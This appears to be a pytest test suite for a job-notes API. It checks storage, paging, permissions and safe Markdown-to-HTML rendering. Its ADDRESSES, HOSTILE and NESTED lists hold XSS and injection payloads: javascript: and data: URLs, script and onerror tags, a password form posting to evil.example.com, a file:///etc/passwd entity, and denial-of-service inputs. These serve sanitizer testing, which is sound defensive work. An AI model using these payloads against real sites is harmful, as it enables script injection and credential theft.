"""Notes on jobs: kept as typed, newest first, and shown as HTML that can do no harm whatever was typed."""
# requires html5lib==1.1

import html.parser
import re

import html5lib
import pytest

from people import (
    API, at_every_mount, NOBODY, UUID, Browser, assert_refused, log_in, make_key, make_user, member as new_member, new_address, with_key,
)
from served import ADMIN, PASSWORD
from test_collaboration_contract import ENVELOPED, assert_enveloped, assert_tagged
from test_track_jobs import let_the_clock_move_past, moment, track

NOTE_FIELDS = {"id", "job_id", "application_id", "body", "html", "author", "created_at"}
TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?(Z|\+00:00)?")
LIMIT = 20_000



def add(client, job, body, mount=API):
    return client.expect(201, "POST", f"{mount}/jobs/{job}/notes", json={"body": body}).json()


def notes(client, job, query="", mount=API):
    return client.expect(200, "GET", f"{mount}/jobs/{job}/notes{query}").json()


@pytest.fixture
def job(admin):
    return track(admin)["id"]


@pytest.fixture(scope="module")
def pad(admin):
    """A job on which many notes are tried out."""
    return track(admin, "Notepad")["id"]


# Writing and reading


@at_every_mount
def test_a_note_is_written_listed_and_deleted(admin, job, mount):
    note = add(admin, job, "**Coarse** grain", mount)
    assert set(note) == NOTE_FIELDS, note
    assert UUID.fullmatch(note["id"])
    assert (note["job_id"], note["application_id"], note["author"]) == (job, job, ADMIN)
    assert note["body"] == "**Coarse** grain"
    assert note["html"].strip() == "<p><strong>Coarse</strong> grain</p>"
    assert TIME.fullmatch(note["created_at"]), note
    answer = admin.expect(200, "GET", f"{mount}/jobs/{job}/notes")
    assert answer.json() == [note]
    assert answer.headers["X-Total-Count"] == "1"
    assert_tagged(answer)
    deleted = admin.expect(200, "DELETE", f"{mount}/jobs/{job}/notes/{note['id']}")
    assert deleted.json() == {"deleted": True}
    assert notes(admin, job, mount=mount) == []
    assert_refused(admin.delete(f"{mount}/jobs/{job}/notes/{note['id']}"), 404, "note_not_found")


def test_the_newest_note_comes_first(admin, job):
    written = [add(admin, job, f"note {number}")["id"] for number in range(9)]
    assert [note["id"] for note in notes(admin, job)] == written[::-1]
    pages = [admin.expect(200, "GET", f"{API}/jobs/{job}/notes?skip={skip}&limit=4") for skip in (0, 4, 8, 12)]
    assert [len(page.json()) for page in pages] == [4, 4, 1, 0]
    assert [note["id"] for page in pages for note in page.json()] == written[::-1]
    assert {page.headers["X-Total-Count"] for page in pages} == {"9"}


def test_the_enveloped_dialect_wraps_the_list(admin, job):
    note = add(admin, job, "x")
    answer = admin.expect(200, "GET", f"{API}/jobs/{job}/notes", headers=ENVELOPED)
    assert answer.json() == {"notes": [note]}
    assert_tagged(answer)
    assert_enveloped(admin.post(f"{API}/jobs/{job}/notes", json={}, headers=ENVELOPED), 422, "validation_error")
    assert_enveloped(admin.delete(f"{API}/jobs/{job}/notes/{NOBODY}", headers=ENVELOPED), 404, "http_exception")


@pytest.mark.parametrize("query, code", [
    ("skip=-1", "invalid_skip"), ("limit=-1", "invalid_limit"), ("limit=x", "invalid_limit"), ("skip=1.5", "invalid_skip"),
])
def test_a_page_out_of_bounds_is_refused(admin, pad, query, code):
    assert_refused(admin.get(f"{API}/jobs/{pad}/notes?{query}"), 400, code)


@pytest.mark.parametrize("body", [
    "  two spaces before and after  ", "\n\nlines\r\nof\rall\n\tkinds\n", "ÄÖÜ 麦 🌾 e\u0301", "x" * LIMIT, "🌾" * LIMIT, "ä" * LIMIT,
    "\\* `a` <b> & &amp; \"", "\u202egnirg\u2066",
], ids=["spaces", "lines", "unicode", "long", "long-emoji", "long-umlauts", "signs", "bidi"])
def test_a_note_is_kept_as_typed(admin, pad, body):
    note = add(admin, pad, body)
    assert note["body"] == body
    assert notes(admin, pad, "?limit=1")[0] == note


@pytest.mark.parametrize("body", ["a\0b", "\x01\x1b[31m\x7f"], ids=ascii)
def test_control_characters_are_kept_or_refused(admin, pad, body):
    answer = admin.post(f"{API}/jobs/{pad}/notes", json={"body": body})
    assert answer.status_code in (201, 400), answer.text
    if answer.status_code == 201:
        assert answer.json()["body"] == body
        assert "\0" not in answer.json()["html"]


@pytest.mark.parametrize("members, code", [
    ({}, "missing_body"), ({"body": ""}, "missing_body"), ({"body": " \n\t\u3000"}, "missing_body"), ({"body": None}, "missing_body"),
    ({"body": 7}, "invalid_body_text"), ({"body": []}, "invalid_body_text"), ({"body": {}}, "invalid_body_text"),
    ({"body": True}, "invalid_body_text"), ({"body": "x" * (LIMIT + 1)}, "invalid_body_text"),
    ({"body": "🌾" * (LIMIT + 1)}, "invalid_body_text"), ([], "invalid_body"), ("text", "invalid_body"), (7, "invalid_body"),
], ids=["absent", "empty", "blank", "null", "number", "list", "object", "true", "long", "long-emoji", "a-list", "a-text", "a-number"])
def test_a_note_without_a_proper_text_is_refused(admin, job, members, code):
    assert_refused(admin.post(f"{API}/jobs/{job}/notes", json=members), 400, code)
    assert notes(admin, job) == []


def test_notes_are_for_every_kind_of_job(admin, people):
    for one in (admin.create_job("rye.csv")["id"], admin.run(people)["id"]):
        note = add(admin, one, "noted")
        assert notes(admin, one) == [note]
        admin.expect(200, "DELETE", f"{API}/jobs/{one}/notes/{note['id']}")


def test_adding_and_deleting_are_activity_of_the_job(admin, job):
    before = admin.job(job)
    let_the_clock_move_past(before)
    note = add(admin, job, "x")
    between = admin.job(job)
    assert moment(between["updated_at"]) > moment(before["updated_at"])
    let_the_clock_move_past(between)
    admin.expect(200, "DELETE", f"{API}/jobs/{job}/notes/{note['id']}")
    after = admin.job(job)
    assert moment(after["updated_at"]) > moment(between["updated_at"])
    assert before | {"updated_at": None} == after | {"updated_at": None}


def test_a_refused_note_is_no_activity(admin, job):
    before = admin.job(job)
    let_the_clock_move_past(before)
    admin.expect(400, "POST", f"{API}/jobs/{job}/notes", json={"body": " "})
    admin.expect(404, "DELETE", f"{API}/jobs/{job}/notes/{NOBODY}")
    assert admin.job(job) == before


@pytest.mark.parametrize("note", [NOBODY, "not-a-uuid", "1", "%20"])
def test_an_unknown_note_is_not_there(admin, job, note):
    assert_refused(admin.delete(f"{API}/jobs/{job}/notes/{note}"), 404)


def test_a_note_is_not_deleted_through_another_job(admin, job):
    note = add(admin, job, "mine")
    other = track(admin)["id"]
    assert_refused(admin.delete(f"{API}/jobs/{other}/notes/{note['id']}"), 404, "note_not_found")
    assert notes(admin, job) == [note]


def test_a_note_ends_with_its_job(admin, job):
    add(admin, job, "x")
    admin.expect(204, "DELETE", f"{API}/jobs/{job}")
    assert_refused(admin.get(f"{API}/jobs/{job}/notes"), 404, "job_not_found")
    assert_refused(admin.post(f"{API}/jobs/{job}/notes", json={"body": "x"}), 404, "job_not_found")


# Who may


def ask_all(client, job, note):
    """What somebody is answered who lists, writes and deletes."""
    path = f"{API}/jobs/{job}/notes"
    return [client.get(path), client.post(path, json={"body": "by another"}), client.delete(f"{path}/{note}")]


def test_notes_are_for_the_owner_and_an_admin_may_read(server, admin, member):
    job = track(member)["id"]
    note = add(member, job, "of the member")
    other = new_member(server)
    stranger = log_in(server, make_user(server, new_address("stranger"), tenant="elsewhere")["email"])
    for answer in ask_all(other, job, note["id"]):
        assert_refused(answer, 403, "job_not_yours")
    for answer in ask_all(stranger, job, note["id"]):
        assert_refused(answer, 404, "job_not_found")
    for answer in ask_all(server.visitor(), job, note["id"]):
        assert_refused(answer, 401)
    read, *written = ask_all(admin, job, note["id"])
    assert (read.status_code, read.json()) == (200, [note])
    for answer in written:
        assert_refused(answer, 403, "job_not_yours")
    for answer in ask_all(admin, NOBODY, note["id"]):
        assert_refused(answer, 404, "job_not_found")
    assert notes(member, job) == [note]


def test_a_key_needs_the_scope_to_write(server):
    owner = new_member(server)
    job = track(owner)["id"]
    note = add(owner, job, "x")
    read, *written = ask_all(with_key(server, make_key(owner, "jobs:read")["key"]), job, note["id"])
    assert read.status_code == 200
    for answer in written:
        assert_refused(answer, 403)
    writer = with_key(server, make_key(owner, "jobs:read", "jobs:write")["key"])
    assert [answer.status_code for answer in ask_all(writer, job, note["id"])] == [200, 201, 200]


# What a note looks like


def rendered(client, job, body):
    return add(client, job, body)["html"]


@pytest.mark.parametrize("body, expected", [
    ("plain", "<p>plain</p>"), ("a < b & c > d", "<p>a &lt; b &amp; c &gt; d</p>"), ("*a* _b_ **c** __d__", None),
    ("`a < b`", "<p><code>a &lt; b</code></p>"), ("```\n<b>\n```", "<pre><code>&lt;b&gt;\n</code></pre>"),
    ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"), ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
    ("a\n\nb", "<p>a</p>\n<p>b</p>"), ("\\*a\\*", "<p>*a*</p>"),
], ids=["plain", "signs", "emphasis", "code", "fence", "list", "quote", "paragraphs", "escapes"])
def test_markdown_is_commonmark(admin, pad, body, expected):
    expected = expected or "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong></p>"
    assert re.sub(r">\s+<", "><", rendered(admin, pad, body).strip()) == re.sub(r">\s+<", "><", expected)


@pytest.mark.parametrize("body", ["# One", "## Two", "One\n===", "Two\n---", "###### Six", "> # In a quote", "- # In a list"])
def test_a_heading_is_never_above_the_third_level(admin, pad, body):
    html = rendered(admin, pad, body)
    levels = [int(level) for level in re.findall(r"<h(\d)", html)]
    assert levels and min(levels) >= 3 and max(levels) <= 6, html


def test_a_lower_heading_stands_below_a_higher_one(admin, pad):
    first, second = re.findall(r"<h(\d)", rendered(admin, pad, "# One\n\n## Two"))
    assert first < second


@pytest.mark.parametrize("body, address", [
    ("[a](https://example.com/?a=1&b=2)", "https://example.com/?a=1&b=2"), ("[a](http://example.com 'title')", "http://example.com"),
    ("[a](mailto:a@example.com)", "mailto:a@example.com"), ("<https://example.com/x>", "https://example.com/x"),
    ("<a@example.com>", "mailto:a@example.com"), ("[a][b]\n\n[b]: https://example.com", "https://example.com"),
    ("[a](HTTPS://EXAMPLE.COM)", "HTTPS://EXAMPLE.COM"), ('[a](https://example.com/"onclick=)', "https://example.com/%22onclick="),
])
def test_a_link_leads_out_without_a_trace(admin, pad, body, address):
    tree = assert_harmless(rendered(admin, pad, body))
    (link,) = [element for element in tree.iter() if local(element) == "a"]
    assert link.get("href") == address
    assert set(link.get("rel").split()) == {"nofollow", "noopener", "noreferrer"}


# What a note can not do

MAY = {
    "p": set(), "br": set(), "hr": set(), "em": set(), "strong": set(), "del": set(), "code": {"class"}, "pre": {"class"},
    "blockquote": set(), "ul": set(), "ol": {"start"}, "li": set(), "a": {"href", "title", "rel", "target"}, "h3": set(), "h4": set(),
    "h5": set(), "h6": set(), "img": {"src", "alt", "title"}, "table": set(), "thead": set(), "tbody": set(), "tr": set(),
    "th": {"align"}, "td": {"align"},
}
SCHEMES = {"a": {"http", "https", "mailto"}, "img": {"http", "https"}}


def local(element):
    return element.tag.split("}")[-1] if isinstance(element.tag, str) else "comment"


def scheme(address):
    """As a browser reads it (WHATWG URL): without controls and spaces around, without tabs and line ends anywhere."""
    clean = re.sub(r"[\t\n\r]", "", address.strip("".join(map(chr, range(33)))))
    found = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", clean)
    return found.group(1).lower() if found else ""


def assert_harmless(markup):
    """Well formed for a parser that forgives nothing, with no element, attribute or address but those that may be; the tree."""
    try:
        # Control characters are no harm, but to this parser an error.
        tree = html5lib.HTMLParser(strict=True).parseFragment(re.sub("[\x01-\x08\x0b\x0e-\x1f\x7f]", "\ufffd", markup))
    except html5lib.html5parser.ParseError as error:
        raise AssertionError(f"not well formed: {error}: {markup[:500]!r}") from None
    for element in list(tree.iter())[1:]:
        assert_may_be(local(element), dict(element.attrib), markup)
    return tree


def assert_may_be(name, attributes, markup):
    assert name in MAY, f"<{name}> in {markup[:500]!r}"
    assert set(attributes) <= MAY[name], f"{attributes} of <{name}> in {markup[:500]!r}"
    for attribute in {"href", "src"} & set(attributes):
        assert scheme(attributes[attribute]) in SCHEMES[name], f"{attributes[attribute]!r} in {markup[:500]!r}"
    if name == "a":
        assert {"nofollow", "noopener", "noreferrer"} <= set(attributes["rel"].split()), markup[:500]
    for word in attributes.get("class", "").split():
        assert word.startswith("language-"), f"{word} could be a class of the page"


ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
    "\x01javascript:alert(1)", "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3A;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61lert(1)", "&#0000106avascript:alert(1)",
    "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)", "java&#10;script:alert(1)", "java&#x0D;script:alert(1)",
    "javascript\\:alert(1)", "javascript%3Aalert(1)", "jav\u200bascript:alert(1)", "&#1;javascript:alert(1)", "\u00a0javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>", "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>", "vbscript:msgbox(1)", "file:///etc/passwd", "blob:https://example.com/1",
    "view-source:https://example.com", "//evil.example.com", "/dashboard/settings", "\\\\evil.example.com", "?logout", "#top", "",
    "feed:javascript:alert(1)", "http\\://example.com", "ws://example.com", "tel:123", "about:blank", "https:javascript:alert(1)\"onload=",
]
SHAPES = ["[a]({})", "[a](<{}>)", "<{}>", "[a]\n\n[a]: {}", "[a]\n\n[a]: <{}>", "![a]({})", "[![a]({})](https://example.com)"]


@pytest.mark.parametrize("address", ADDRESSES, ids=ascii)
def test_an_address_that_could_act_is_no_link(admin, pad, address):
    for shape in SHAPES:
        assert_harmless(rendered(admin, pad, shape.format(address)))


HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example.com/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>", "<script", "<script>", "</script><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=data:text/html,x></object>",
    "<embed src=//evil.example.com>", "<form action=//evil.example.com><input name=password></form>", "<button formaction=javascript:alert(1)>x",
    "<a href=javascript:alert(1)>x</a>", "<a href='https://example.com' onclick='alert(1)'>x</a>", "<base href=//evil.example.com>",
    "<meta http-equiv=refresh content='0;url=//evil.example.com'>", "<link rel=stylesheet href=//evil.example.com>",
    "<style>*{background:url(//evil.example.com)}</style>", "<p style='position:fixed;inset:0'>x</p>", "<div id=main class=danger>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<!-- comment --><b>x</b>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "<!DOCTYPE html>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "</p></div></main><h1>Outside</h1>", "</textarea><script>alert(1)</script>",
    "text <b>bold <i>both</b> italic</i>", "<b><p>crossed</b></p>", "<plaintext>", "<template><script>alert(1)</script></template>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script\\>alert(1)", "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```", "``` \"><script>alert(1)</script>\nx\n```", "```\" onclick=\"alert(1)\nx\n```",
    "```a b c&quot; onclick=alert(1)\nx\n```", "~~~</code></pre><script>alert(1)</script>\nx\n~~~", "    <script>indented</script>",
    "[a](https://example.com \"t\\\" onclick=\\\"alert(1)\")", "[a](https://example.com '\"><script>alert(1)</script>')",
    "![a\" onerror=\"alert(1)](https://example.com/x.png)", "![<script>](https://example.com/x.png)", "[<img src=x onerror=alert(1)>](https://example.com)",
    "[a](https://example.com/\"><script>alert(1)</script>)", "[a](<https://example.com/\" onclick=\"alert(1)>)",
    "<https://example.com/\"onclick=alert(1)>", "<https://example.com/'><script>alert(1)</script>", "[a [b](https://b.example.com)](https://a.example.com)",
    "[a](https://example.com)[b](javascript:alert(1))", "[a]: javascript:alert(1)\n\n[A] [a][] [b][a]", "a\0<script>alert(1)</script>",
    "<\0script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "\ufeff<script>alert(1)</script>", "＜script＞alert(1)＜/script＞",
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | `|` |", "~~<script>~~", "- [x] <input onfocus=alert(1) autofocus>", "[^1]\n\n[^1]: <script>x</script>",
    "<a@example.com\"onclick=alert(1)>", "1. a\n\n   <script>alert(1)</script>", "9999999999. far", "999999999. far", "-1. x",
    "&nosuchentity; &#0; &#xD800; &#x110000; &#99999999999;", "&amp;lt;script&amp;gt;", "*a **b* c**", "*a [b*](https://example.com)",
]


@pytest.mark.parametrize("body", HOSTILE, ids=[ascii(body)[:50] for body in HOSTILE])
def test_a_hostile_note_is_harmless(admin, pad, body):
    answer = admin.post(f"{API}/jobs/{pad}/notes", json={"body": body})
    if "\0" in body and answer.status_code == 400:
        return
    assert answer.status_code == 201, answer.text
    assert answer.json()["body"] == body
    assert_harmless(answer.json()["html"])


def test_what_is_no_raw_html_is_still_to_be_read(admin, pad):
    for body in ("`<script>`", "\\<script>", "&lt;script&gt;", "    <script>"):
        assert "&lt;script&gt;" in rendered(admin, pad, body), body


class Balance(html.parser.HTMLParser):
    """Reads elements as they come, however deep they are; each that opens must close."""

    def __init__(self, markup):
        super().__init__()
        self.markup, self.open = markup, []
        self.feed(markup)
        self.close()
        assert self.open == [], f"not closed: {self.open[-5:]}"

    def handle_starttag(self, name, attributes):
        assert_may_be(name, dict(attributes), self.markup)
        if name not in ("br", "hr", "img"):
            self.open.append(name)

    def handle_startendtag(self, name, attributes):
        assert_may_be(name, dict(attributes), self.markup)

    def handle_endtag(self, name):
        assert self.open and self.open.pop() == name, f"</{name}> closes nothing in {self.markup[:200]!r}"


NESTED = {
    "quotes": ">" * LIMIT, "quotes-and-text": "> " * 9000 + "x", "lists": "- " * 9000 + "x", "numbers": "1. " * 6000 + "x",
    "list-of-lists": "\n".join(" " * 2 * depth + "- x" for depth in range(130)), "brackets": "[" * LIMIT, "closed": "[" * 9999 + "a" + "](b)" * 2000,
    "pairs": "[]" * 9999, "images": "![" * 9999, "links": "[a](" * 4999, "half-links": "[](" * 6666, "half-addresses": "[a](<b" * 3333,
    "stars": "*" * LIMIT, "stars-and-letters": "*a " * 6666, "closing-stars": "a**b" + "c* " * 6665, "mixed": "*a_b" * 4999, "underscores": "_" * LIMIT,
    "ticks": "`" * LIMIT, "growing-ticks": "".join("e" + "`" * length for length in range(1, 199)), "angles": "<" * LIMIT,
    "half-tags": "<a " * 6666, "half-comments": "<!--" * 4999, "half-instructions": "<?" * 9999, "half-declarations": "<!A " * 4999, "cdata": "<![CDATA[" * 2222,
    "ampersands": "&" * LIMIT, "entities": "&#x0" * 4999, "backslashes": "\\" * LIMIT, "newlines": "x" + "\n" * 19_998 + "x", "spaces": "x" + " " * 19_998 + "x",
    "tabs": "\t" * 19_999 + "x", "rules": "---\n" * 5000, "headings": "#" * LIMIT, "underlines": "a\n" + "=" * 19_990, "fences": "```\n" * 5000,
    "definitions": "".join(f"[{number}]: u\n" for number in range(1700)), "reference-names": "[" + "a" * 999 + "]\n" * 18,
    "references-to-a-long-address": "[a]: https://example.com/" + "x" * 9000 + "\n\n" + "[a]" * 3000, "tables": "|x" * 2000 + "\n" + "|-" * 2000 + "\n" + "|y" * 2000,
    "tildes": "~" * LIMIT, "quoted-lists": "> - " * 4999 + "x", "titles": "[a](b \"" * 2800, "addresses": "<https://example.com/" * 900,
}


@pytest.mark.parametrize("body", NESTED.values(), ids=NESTED)
def test_huge_nesting_is_answered_and_harmless(admin, pad, body):
    """Within the limit of one request; an answer may be larger than its note, but not without bounds."""
    assert len(body) <= LIMIT, len(body)
    html = rendered(admin, pad, body)
    assert len(html) < 4_000_000, f"{len(html)} characters of HTML from {len(body)}"
    Balance(html)


def test_the_page_shows_a_hostile_note_without_harm(server, admin, job):
    """On the page too nothing of a note is a script, a handler or a link that acts."""
    for body in ("<script>millstone()</script>", "<img src=x onerror=millstone()>", "[a](javascript:millstone())", "**millstone**"):
        add(admin, job, body)
    browser = Browser(server)
    browser.sign_in(ADMIN, PASSWORD)
    page = browser.see(f"/dashboard/jobs/{job}")
    tree = html5lib.parse(page.text)
    assert any(local(element) == "strong" and element.text == "millstone" for element in tree.iter()), "notes are on the page"
    for element in tree.iter():
        if local(element) == "script":
            assert "millstone" not in "".join(element.itertext())
        for name, value in element.attrib.items():
            if not isinstance(name, str) or not value or "millstone" not in value:
                continue
            assert not name.lower().startswith("on") and scheme(value) != "javascript", f"{name}={value!r} of <{local(element)}>"
